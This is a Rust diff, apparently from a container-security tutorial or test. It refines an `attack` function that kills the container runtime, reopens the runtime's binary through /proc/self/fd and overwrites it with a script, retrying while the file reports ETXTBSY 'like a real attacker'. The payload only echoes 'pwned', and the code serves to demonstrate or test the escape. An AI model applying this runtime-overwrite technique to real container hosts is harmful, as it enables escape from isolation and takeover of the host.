@@ -23,6 +23,7 @@ use std::io::Write;
 use std::os::fd::AsRawFd;
 use std::path::Path;
 use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
 
 // ANCHOR: attack
 /// What a process in the container does: while the runtime process `runtime` runs, keep an
@@ -35,10 +36,21 @@ fn attack(mut runtime: Child) -> anyhow::Result<(String, String)> {
     runtime.kill()?;
     runtime.wait()?; // the runtime is gone: its file is no longer "busy"
     let reopen = format!("/proc/self/fd/{}", handle.as_raw_fd());
-    let written = std::fs::OpenOptions::new()
-        .write(true)
-        .open(&reopen)
-        .and_then(|mut f| f.write_all(b"#!/bin/sh\necho pwned\n"));
+    // The kernel lets go of the file a moment after the process is reaped: like a real
+    // attacker, try again while it is still "busy" (ETXTBSY), up to a deadline.
+    let deadline = Instant::now() + Duration::from_secs(5);
+    let written = loop {
+        let attempt = std::fs::OpenOptions::new()
+            .write(true)
+            .open(&reopen)
+            .and_then(|mut f| f.write_all(b"#!/bin/sh\necho pwned\n"));
+        match attempt {
+            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
+                std::thread::yield_now()
+            }
+            other => break other,
+        }
+    };
     let outcome = match written {
         Ok(()) => "ok".to_string(),
         Err(e) => format!("{:?}", nix::Error::from_raw(e.raw_os_error().unwrap_or(0))),
